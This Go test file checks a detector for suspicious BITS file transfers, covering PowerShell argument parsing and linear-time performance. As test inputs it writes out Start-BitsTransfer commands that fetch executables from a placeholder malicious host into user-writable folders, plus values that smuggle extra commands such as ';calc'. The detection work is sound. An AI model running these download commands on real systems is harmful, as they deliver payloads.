package hardened

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// TestPSArgument reads one argument as PowerShell's argument mode does
// (about_Parsing, about_Quoting_Rules), through the Windows command-line
// rules first when the text is a process's command line.
func TestPSArgument(t *testing.T) {
	for _, c := range []struct {
		text, want string
		argv       bool
		rest       string // the text after the argument
	}{
		{text: `$env:TEMP\bitsadmin2_flag.ps1}`, want: `$env:TEMP\bitsadmin2_flag.ps1`, rest: `}`},
		{text: `C:\x\a.exe) | Out-Null`, want: `C:\x\a.exe`, rest: `) | Out-Null`},
		{text: `C:\x\a.exe;calc`, want: `C:\x\a.exe`, rest: `;calc`},
		{text: `C:\x\a.exe|Out-Null`, want: `C:\x\a.exe`, rest: `|Out-Null`},
		{text: "C:\\x\\a.exe\nWrite-Host done", want: `C:\x\a.exe`, rest: "\nWrite-Host done"},
		{text: `C:\x\a.exe,C:\x\b.exe`, want: `C:\x\a.exe`, rest: `,C:\x\b.exe`},
		{text: `C:\x\a.exe&calc`, want: `C:\x\a.exe`, rest: `&calc`},
		// Quotes: braces, spaces and metacharacters inside are the value's.
		{text: `'C:\Users\Public\a}b.exe'}`, want: `C:\Users\Public\a}b.exe`, rest: `}`},
		{text: `"C:\Program Files\{x}; y.exe"}`, want: `C:\Program Files\{x}; y.exe`, rest: `}`},
		{text: `'C:\Users\Public\it''s.exe'`, want: `C:\Users\Public\it's.exe`},
		{text: `"C:\Users\Public\a""b.exe"`, want: `C:\Users\Public\a"b.exe`},
		{text: "\"C:\\Users\\Public\\a`\"b.exe\" x", want: `C:\Users\Public\a"b.exe`, rest: ` x`},
		{text: "\"C:\\Users\\Public\\a`tb.exe\"", want: "C:\\Users\\Public\\a\tb.exe"},
		{text: "'C:\\Users\\Public\\a`tb.exe'", want: "C:\\Users\\Public\\a`tb.exe"},
		{text: "C:\\Users\\Pub`lic\\a`}b.exe}", want: `C:\Users\Public\a}b.exe`, rest: `}`},
		{text: `C:\Users\'Pub lic'\"a b".exe} x`, want: `C:\Users\Pub lic\a b.exe`, rest: `} x`},
		// Unterminated quotes run to the end of the text.
		{text: `'C:\Users\Public\a.exe} x`, want: `C:\Users\Public\a.exe} x`},
		{text: `"C:\Users\Public\a.exe`, want: `C:\Users\Public\a.exe`},
		// Variables, subexpressions and expressions keep their brackets.
		{text: `${env:TEMP}\a.ps1}`, want: `${env:TEMP}\a.ps1`, rest: `}`},
		{text: `$env:TEMP\$(Get-Random).exe}`, want: `$env:TEMP\$(Get-Random).exe`, rest: `}`},
		{text: `"$env:TEMP\$("a" + ')').exe"}`, want: `$env:TEMP\$("a" + ')').exe`, rest: `}`},
		{text: `(Join-Path $env:TEMP 'a}.exe') x`, want: `(Join-Path $env:TEMP 'a}.exe')`, rest: ` x`},
		{text: `{ a { b } } x`, want: `{ a { b } }`, rest: ` x`},
		{text: `@(1,2) x`, want: `@(1,2)`, rest: ` x`},
		{text: `a(b)`, want: `a`, rest: `(b)`},
		{text: `# comment`, want: ``, rest: `# comment`},
		{text: `a#b c`, want: `a#b`, rest: ` c`},
		// Redirections end an argument anywhere outside quotes (`a>b`
		// writes a to b); inside quotes they are characters.
		{text: `C:\x\a.exe>out.txt`, want: `C:\x\a.exe`, rest: `>out.txt`},
		{text: `C:\x\a.exe</string>`, want: `C:\x\a.exe`, rest: `</string>`},
		{text: `'a>b' c`, want: `a>b`, rest: ` c`},
		// A backtick-escaped space is part of the argument.
		{text: "C:\\Users\\Public\\a` b.exe} x", want: `C:\Users\Public\a b.exe`, rest: `} x`},
		{text: "C:\\a` ` b x", want: `C:\a  b`, rest: ` x`},
		// Curly quotes are PowerShell's quotes: U+2018-U+201B single,
		// U+201C-U+201E double, any of a kind closing any other of it.
		{text: "\u2018C:\\a b.exe\u2019} x", want: `C:\a b.exe`, rest: `} x`},
		{text: "\u201cC:\\a b.exe\u201d} x", want: `C:\a b.exe`, rest: `} x`},
		{text: "\u201eC:\\a b.exe\u201c x", want: `C:\a b.exe`, rest: ` x`},
		{text: "\u201aC:\\a b.exe' x", want: `C:\a b.exe`, rest: ` x`},
		{text: "'it\u2019\u2019s a' x", want: "it\u2019s a", rest: ` x`},
		{text: "\"a \u2018b\u2019 c\" x", want: "a \u2018b\u2019 c", rest: ` x`},
		{text: "\u201ca `\u201d b\u201d x", want: "a \u201d b", rest: ` x`},
		{text: "(Join-Path $env:TEMP \u2018a).exe\u2019) x", want: "(Join-Path $env:TEMP \u2018a).exe\u2019)", rest: ` x`},
		// Other characters of that block are not quotes.
		{text: "a\u2013b\u2020c x", want: "a\u2013b\u2020c", rest: ` x`},
		{text: "\u2018C:\\a b.exe\u2019}\"", argv: true, want: `C:\a b.exe`, rest: "}\""},
		// Command lines: CommandLineToArgvW's quotes come off first.
		{text: `C:\Users\Public\a.exe}"`, argv: true, want: `C:\Users\Public\a.exe`, rest: `}"`},
		{text: `\"C:\Users\Public\a}b.exe\"} x`, argv: true, want: `C:\Users\Public\a}b.exe`, rest: `} x`},
		{text: `"'C:\a b\c.exe'" x`, argv: true, want: `C:\a b\c.exe`, rest: ` x`},
		{text: `"C:\a b\c.exe" x`, argv: true, want: `C:\a`, rest: ` b\c.exe" x`},
		{text: `C:\a\\\\"b"`, argv: true, want: `C:\a\\b`},
		{text: `C^:\a^}.exe`, argv: true, want: `C:\a`, rest: `}.exe`},
	} {
		a := &analysis{}
		a.norm = append(a.norm, "earlier"...)
		a.low = append(a.low, "earlier"...)
		s, _, next := a.psArgument([]byte(c.text), 0, len(c.text), c.argv, false)
		if got := string(a.norm[s.start:s.end]); got != c.want || c.text[next:] != c.rest {
			t.Errorf("psArgument(%q, argv=%v) = %q, rest %q; want %q, rest %q", c.text, c.argv, got, c.text[next:], c.want, c.rest)
		}
		if string(a.low[s.start:s.end]) != strings.ToLower(string(a.norm[s.start:s.end])) {
			t.Errorf("psArgument(%q): low %q is not norm lowercased", c.text, a.low[s.start:s.end])
		}
	}
}

// TestCmdletArguments: the values of a BITS cmdlet's parameters end where
// PowerShell ends them, and the verdict reads the clean value (the `.ps1}`
// of Atomic Red Team T1197 #2 hid an executable download).
func TestCmdletArguments(t *testing.T) {
	const (
		artURL = `https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md`
		evil   = `https://evil.tld/a.exe`
		pub    = `C:\Users\Public\a.exe`
	)
	cases := []struct {
		name       string
		e          event
		url, dest  []string
		indicators []string // that must be present
	}{
		{"ART T1197 #2 as Invoke-AtomicTest runs it",
			sysmon1(powershellExe, `"powershell.exe" & {Start-BitsTransfer -Priority foreground -Source `+artURL+` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
			[]string{artURL}, []string{`$env:TEMP\bitsadmin2_flag.ps1`},
			[]string{"executable_download", "renamed_on_download", "download_to_user_writable"}},
		{"ART T1197 #2 as a script block",
			scriptBlock(`& {Start-BitsTransfer -Priority foreground -Source ` + artURL + ` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
			[]string{artURL}, []string{`$env:TEMP\bitsadmin2_flag.ps1`},
			[]string{"executable_download", "download_to_user_writable"}},
		{"Microsoft Learn Start-BitsTransfer example 1",
			scriptBlock(`Start-BitsTransfer -Source "http://server01/servertestdir/testfile1.txt" -Destination "c:\clienttestdir\testfile1.txt"`),
			[]string{`http://server01/servertestdir/testfile1.txt`}, []string{`c:\clienttestdir\testfile1.txt`}, nil},
		{"-Command in double quotes around a script block",
			powershell(`-NoP -c "& {Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `}"`),
			[]string{evil}, []string{pub}, []string{"executable_download", "download_to_user_writable"}},
		{"nested script blocks",
			scriptBlock(`& { & { Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `}}`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"the source last, before the brace",
			scriptBlock(`& {Start-BitsTransfer -Destination ` + pub + ` -Source ` + evil + `}`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"positional arguments in a script block",
			scriptBlock(`& {Start-BitsTransfer ` + evil + ` $env:TEMP\a.exe}`),
			[]string{evil}, []string{`$env:TEMP\a.exe`}, []string{"executable_download", "download_to_user_writable"}},
		{"-Destination:value",
			scriptBlock(`& {Start-BitsTransfer -Source ` + evil + ` -Destination:'C:\Users\Public\a b.exe'}`),
			[]string{evil}, []string{`C:\Users\Public\a b.exe`}, []string{"executable_download"}},
		{"a brace inside quotes stays",
			scriptBlock(`& {Start-BitsTransfer -Source '` + evil + `' -Destination 'C:\Users\Public\{0}.exe'}`),
			[]string{evil}, []string{`C:\Users\Public\{0}.exe`}, []string{"executable_download"}},
		{"quoted path with spaces, doubled quote",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination 'C:\Users\Public\it''s here.exe'; calc`),
			[]string{evil}, []string{`C:\Users\Public\it's here.exe`}, []string{"executable_download"}},
		{"the command ends at a pipe",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination ` + pub + `|Out-Null`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
		{"argv-escaped quotes around a brace",
			powershell(`-c Start-BitsTransfer -Source ` + evil + ` -Destination \"C:\Users\Public\a}b.exe\"`),
			[]string{evil}, []string{`C:\Users\Public\a}b.exe`}, []string{"executable_download"}},
		{"braced variable",
			scriptBlock(`& {Start-BitsTransfer -Source ` + evil + ` -Destination ${env:TEMP}\a.exe}`),
			[]string{evil}, []string{`${env:TEMP}\a.exe`}, []string{"executable_download", "download_to_user_writable"}},
		{"unterminated quote",
			scriptBlock(`Start-BitsTransfer -Source ` + evil + ` -Destination 'C:\Users\Public\a.exe`),
			[]string{evil}, []string{pub}, []string{"executable_download"}},
	}
	d := New(nil)
	for _, c := range cases {
		r := score(t, d, c.e)
		if got := r.fields["BitsUrl"]; !slices.Equal(got, c.url) {
			t.Errorf("%s: BitsUrl = %q, want %q", c.name, got, c.url)
		}
		if got := r.fields["BitsDestination"]; !slices.Equal(got, c.dest) {
			t.Errorf("%s: BitsDestination = %q, want %q", c.name, got, c.dest)
		}
		for _, ind := range c.indicators {
			if !r.has(ind) {
				t.Errorf("%s: Indicators = %q, want %s", c.name, r.indicators, ind)
			}
		}
	}
}

// TestCmdletArgumentsLinear: texts made of BITS cmdlet calls whose
// arguments open quotes, subexpressions and script blocks they never
// close cost time linear in their length (4 times the text: at most 8
// times the time, where quadratic would be 16).
func TestCmdletArgumentsLinear(t *testing.T) {
	d := New(nil).(*Detector)
	d.memo = nil // every run analysed
	for _, unit := range []string{
		`Start-BitsTransfer -Source 'https://evil.tld/a -Destination "C:\x $( `,
		`& {Start-BitsTransfer -Destination ${a -Source $(b https://evil.tld/a.exe C:\x\y} `,
		`Start-BitsTransfer https://evil.tld/"a C:\a\"b '' "" ` + "`",
	} {
		for _, f := range costFields {
			small := toInputs(d, f.event(repeatTo(unit, 32<<10)))
			large := toInputs(d, f.event(repeatTo(unit, 128<<10)))
			ts, tl := timeScore(d, small, 5), timeScore(d, large, 5)
			if tl > 8*ts+2*time.Millisecond {
				t.Errorf("%s: %q repeated: 32 KiB in %v, 128 KiB in %v", f.name, unit, ts, tl)
			}
		}
	}
}
